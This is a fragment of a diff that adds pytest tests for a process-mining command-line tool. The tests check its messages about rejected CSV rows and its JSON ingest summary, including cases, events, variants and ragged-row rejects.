+    assert result.stderr.startswith("Error: one_bad_in_ten.csv: 1 of 10 rows (10.0%) were rejected")
+    assert "one_bad_in_ten.csv, row 6, column 'timestamp'" in result.stderr
+    assert "Hint: " in result.stderr
+    assert "Traceback" not in result.output
+    assert rejects_csv.read_text(encoding="utf-8").splitlines()[1] == (
+        f"one_bad_in_ten.csv,6,timestamp,{NOT_ISO},yesterday"
+    )
+
+
+def test_cli_json_summary(tmp_path):
+    from click.testing import CliRunner
+
+    from mining.cli import cli
+
+    workspace = tmp_path / "ws.duckdb"
+    result = CliRunner().invoke(
+        cli, ["--workspace", str(workspace), "ingest", str(FILES / "ragged_rows.csv"), "--max-rejects", "0.5", "--json"]
+    )
+    assert result.exit_code == 0, result.output
+    data = json.loads(result.stdout)
+    assert {k: data[k] for k in ("log", "cases", "events", "activities", "variants", "rejected_rows")} == {
+        "log": "ragged_rows", "cases": 3, "events": 5, "activities": 3, "variants": 3, "rejected_rows": 2,
+    }
+    assert [(r["row"], r["reason"][:12]) for r in data["rejects"]] == [(2, "ragged line:"), (4, "ragged line:")]
